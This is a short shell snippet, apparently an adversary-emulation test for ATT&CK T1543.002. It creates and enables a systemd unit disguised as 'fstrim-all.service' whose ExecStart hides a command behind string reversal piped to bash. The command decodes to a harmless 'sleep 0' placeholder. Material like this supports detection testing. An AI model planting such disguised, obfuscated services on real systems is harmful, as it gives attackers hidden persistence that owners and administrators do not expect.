# technique: T1543.002
# location: linux.systemd.service
# source: /etc/systemd/system/fstrim-all.service
printf "[Service]\nExecStart=/bin/bash -c \"echo '0 peels' | rev | bash\"\n[Install]\nWantedBy=multi-user.target\n" \
    > /etc/systemd/system/fstrim-all.service
systemctl enable fstrim-all.service
